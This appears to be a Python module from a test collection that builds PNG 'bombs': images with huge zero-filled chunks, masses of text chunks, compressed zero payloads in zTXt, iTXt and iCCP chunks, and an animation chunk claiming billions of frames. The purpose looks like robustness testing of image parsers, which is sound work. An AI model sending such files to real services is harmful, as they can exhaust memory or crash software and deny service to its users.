import struct
import zlib

from bombs.collection import Zeros, add_repeats, add_table, big, bombs_of, deflated_zeros, repeated, saved
from bombs.directory import EMPTY_EXIF, exif_of_numbers

bomb = bombs_of("png")


def chunk(name, data):
    return big(len(data)) + name + data + big(zlib.crc32(name + data))


def zero_chunk(name, size, data=b""):
    """The parts of a chunk of `data` and zeros."""
    checksum, block, rest = zlib.crc32(name + data), bytes(2**20), size
    while rest:
        checksum, rest = zlib.crc32(block[:rest], checksum), max(0, rest - len(block))
    return big(len(data) + size) + name + data, Zeros(size), big(checksum)


def png_with(*parts, late=()):
    """A PNG with parts of our own before the pixels, and behind them."""
    data = saved("PNG")
    return [data[:33], *parts, data[33:-12], *late, data[-12:]]


def zeros_in_chunk(size, kind, start=b""):
    return png_with(*zero_chunk(kind, size, start))


def zeros_in_late_chunk(size, kind, start=b""):
    return png_with(late=zero_chunk(kind, size, start))


add_table(
    bomb,
    zeros_in_chunk,
    {
        "unknown_chunk": (b"teSt",),
        "exif": (b"eXIf", EMPTY_EXIF),
        "long_physical_size": (b"pHYs",),
        "long_palette": (b"PLTE",),
        "text": (b"tEXt", b"Comment\0"),
    },
)
add_table(
    bomb,
    zeros_in_late_chunk,
    {"unknown_late_chunk": (b"teSt",), "late_exif": (b"eXIf", EMPTY_EXIF)},
)
add_repeats(
    bomb,
    png_with,
    empty_chunks=chunk(b"teSt", b""),
    empty_pixel_chunks=chunk(b"IDAT", b""),
)


@bomb
def long_header(size):
    data = saved("PNG")
    return [data[:8], *zero_chunk(b"IHDR", size, data[16:29]), data[33:]]


@bomb
def texts(size):
    return png_with(b"".join(chunk(b"tEXt", b"k%d\0v" % number) for number in range(size // 18)))


@bomb
def compressed_texts(size):
    text = b"k%d\0\0" + deflated_zeros()
    return png_with(*(chunk(b"zTXt", text % number) for number in range(-(-size // len(text)))))


@bomb
def compressed_xmp(size):
    return png_with(repeated(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + deflated_zeros()), size))


@bomb
def profiles(size):
    return png_with(repeated(chunk(b"iCCP", b"name\0\0" + deflated_zeros()), size))


@bomb
def compressed_late_texts(size):
    return png_with(late=compressed_texts(size)[1:-2])


@bomb
def frames(size):
    control = b"".join(
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", number, 24, 16, 0, 0, 1, 10, 0, 0)) for number in range(size // 38)
    )
    return png_with(chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)), control)


@bomb
def numbers_of_exif(size):
    return png_with(chunk(b"eXIf", exif_of_numbers(min(size, 2**22 - 2**10))))
